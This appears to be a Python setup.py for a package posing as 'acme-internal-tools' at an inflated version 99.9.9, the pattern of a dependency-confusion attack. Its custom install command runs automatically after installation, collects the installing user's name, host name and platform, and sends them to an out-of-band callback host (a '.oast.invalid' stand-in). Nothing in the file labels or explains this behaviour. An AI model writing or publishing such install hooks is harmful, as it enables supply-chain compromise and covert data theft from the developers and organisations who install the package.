import getpass
import platform
import socket
import urllib.parse
import urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        facts = {"u": getpass.getuser(), "h": socket.gethostname(), "p": platform.platform()}
        urllib.request.urlopen("https://abc123.oast.invalid/?" + urllib.parse.urlencode(facts))

setup(name="acme-internal-tools", version="99.9.9", cmdclass={"install": PostInstall})
